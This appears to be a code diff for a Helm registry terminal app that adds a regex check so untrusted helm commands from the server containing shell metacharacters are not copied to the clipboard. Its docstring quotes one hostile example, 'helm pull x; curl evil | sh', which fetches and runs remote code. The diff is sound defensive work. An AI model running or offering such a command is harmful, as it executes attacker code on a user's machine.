@@ -6,6 +6,7 @@ project, and are hidden and refused on read-only profiles.
 
 from __future__ import annotations
 
+import re
 from collections.abc import AsyncIterator
 from typing import Any, ClassVar
 
@@ -856,11 +857,28 @@ class ChartDetailScreen(RefusedChoices, FlexModal[str | None]):
         v = self._version()
         if v is None:
             return
-        value = v.helm_command or (v.urls[0] if v.urls else v.digest or "")
-        flex_app(self).copy_text(value, "helm command" if v.helm_command else "chart URL")
+        fallback = v.urls[0] if v.urls else v.digest or ""
+        if v.helm_command and not pasteable(v.helm_command):
+            flex_app(self).copy_text(fallback, "chart URL")
+            self.notify(
+                Text("The server's helm command holds characters a shell acts on (; | & $ ` < > quotes…): not copied; the chart URL was."),
+                severity="warning",
+            )
+            return
+        flex_app(self).copy_text(v.helm_command or fallback, "helm command" if v.helm_command else "chart URL")
 
     def action_choose(self, action: str) -> None:
         self.dismiss(action)
+
+
+_PLAIN_COMMAND = re.compile(r"helm(?: [A-Za-z0-9@%+=:,./~_-]+)+")
+
+
+def pasteable(command: str) -> bool:
+    """Whether a helm command the server sent may go to the clipboard to be pasted into a shell: `helm` and words
+    made of the characters of addresses, names and versions, nothing a shell acts on (`;`, `|`, `$(`, quotes, …).
+    The registry's answer is the server's text: a hostile `helm pull x; curl evil | sh` must not be one paste away."""
+    return _PLAIN_COMMAND.fullmatch(command) is not None
 
 
 class ArtifactsScreen(PagedRegistryScreen):
